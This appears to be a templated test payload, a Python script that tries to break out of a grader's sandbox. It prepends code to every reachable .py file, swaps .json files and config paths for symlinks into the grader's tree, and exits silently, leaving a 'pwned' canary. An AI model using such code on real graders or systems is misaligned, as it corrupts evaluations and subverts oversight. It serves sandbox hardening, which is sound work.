"""Rewrites every file of the grader's runtime it can find beside its own folder (the child program, the
codec, the configuration) so that the NEXT child, started by the trusted parent, runs its code first; plants
a symlink where the parent used to write the configuration, aimed at the grader's own tree; then exits."""
import os

PAYLOAD = 'open("@REPO@/grader/pwned_@TAG@.py", "w").write("pwned = True\\n")\n'
here = os.path.dirname(os.path.abspath(os.getcwd()))
for root, _dirs, files in os.walk(here):
    for name in files:
        path = os.path.join(root, name)
        try:
            if name.endswith(".py"):
                with open(path) as fh:
                    text = fh.read()
                with open(path, "w") as fh:
                    fh.write(PAYLOAD + text)
            elif name.endswith(".json"):
                os.unlink(path)
                os.symlink("@REPO@/grader/pwned_@TAG@.py", path)
        except OSError:
            pass
for folder in ("rt", "runtime", "home", "tmp"):
    try:
        os.symlink("@REPO@/grader/pwned_@TAG@.py", os.path.join(here, folder, "config.json"))
    except OSError:
        pass
os._exit(0)
